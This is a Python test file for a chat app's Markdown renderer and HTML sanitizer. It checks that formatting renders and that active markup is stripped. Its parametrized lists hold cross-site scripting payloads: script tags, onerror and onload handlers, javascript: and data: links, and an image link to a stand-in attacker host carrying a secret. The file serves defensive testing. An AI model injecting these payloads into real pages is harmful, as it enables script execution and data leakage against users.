"""Answers' Markdown: what renders (code blocks, lists, tables, links) and what never survives (scripts, event
handlers, javascript:/data: links, iframes, images fetching a URL the answer chose)."""

from html.parser import HTMLParser

import pytest

from apps.chat.markdown import render_markdown, sanitize_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=q></form>',
    "![x](https://evil.example/leak.png?secret=1)",
    '<details open ontoggle="alert(1)">x</details>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    """The real elements of ``html`` with their attributes (escaped text such as ``&lt;script&gt;`` is text)."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def tags_of(html: str) -> set[str]:
    return {tag for tag, _ in elements(html)}


def attributes_of(html: str) -> set[str]:
    return {name for _, attrs in elements(html) for name in attrs}


def hrefs_of(html: str) -> list[str]:
    return [attrs.get("href", "") for tag, attrs in elements(html) if tag == "a"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_never_yields_active_markup(text):
    html = render_markdown(text)

    assert tags_of(html) <= {"p", "a", "code", "pre"}
    assert attributes_of(html) <= {"href", "rel", "title"}
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in hrefs_of(html))
    assert "<img" not in html and "<iframe" not in html and "<script" not in html.lower()


@pytest.mark.parametrize(
    "html",
    [
        '<p onclick="alert(1)">x</p><script>alert(1)</script>',
        '<a href="javascript:alert(1)" onmouseover="alert(2)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe><img src=x onerror=alert(1)>',
        '<table><tr><td style="x" background="javascript:alert(1)">1</td></tr></table>',
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<!-- <script>alert(1)</script> --><p>ok</p>",
    ],
)
def test_the_sanitizer_holds_on_its_own_for_raw_html(html):
    """Layer 2 alone: were the Markdown renderer ever to let HTML through, nh3 still strips it."""
    clean = sanitize_html(html)

    assert tags_of(clean) <= {"p", "a", "table", "tbody", "tr", "td"}
    assert attributes_of(clean) <= {"rel"}
    assert "<script" not in clean and "javascript:" not in clean and "data:" not in clean


def test_script_text_is_dropped_with_the_tag():
    assert sanitize_html("<p>a</p><script>steal()</script>") == "<p>a</p>"


def test_code_blocks_lists_and_tables_render():
    html = render_markdown(
        "# Title\n\n1. one\n2. two\n\n- a\n- b\n\n```python\nif a < b:\n    print('x')\n```\n\n"
        "| name | n |\n| --- | --: |\n| a | 1 |\n\n**bold** *em* ~~gone~~ `inline`"
    )

    assert "<h1>Title</h1>" in html
    assert "<ol>" in html and "<li>one</li>" in html and "<ul>" in html
    assert "<pre><code>if a &lt; b:\n    print('x')\n</code></pre>" in html
    assert "<table>" in html and "<th>name</th>" in html and "<td>1</td>" in html
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html and "<s>gone</s>" in html
    assert "<code>inline</code>" in html
    assert "style=" not in html  # table alignment would be an inline style, which the CSP refuses


def test_links_keep_http_targets_and_get_a_safe_rel():
    html = render_markdown('[docs](https://example.com/a?b=1 "The docs") and <mailto:x@example.com>')

    assert '<a href="https://example.com/a?b=1" title="The docs" rel="noopener noreferrer nofollow">docs</a>' in html
    assert 'href="mailto:x@example.com"' in html


def test_an_image_becomes_its_alt_text():
    html = render_markdown("See ![the <b>chart</b>](https://evil.example/x.png?q=secret).")

    assert "evil.example" not in html
    assert "the chart" in html or "the &lt;b&gt;chart&lt;/b&gt;" in html


def test_empty_text_renders_nothing():
    assert render_markdown("") == ""
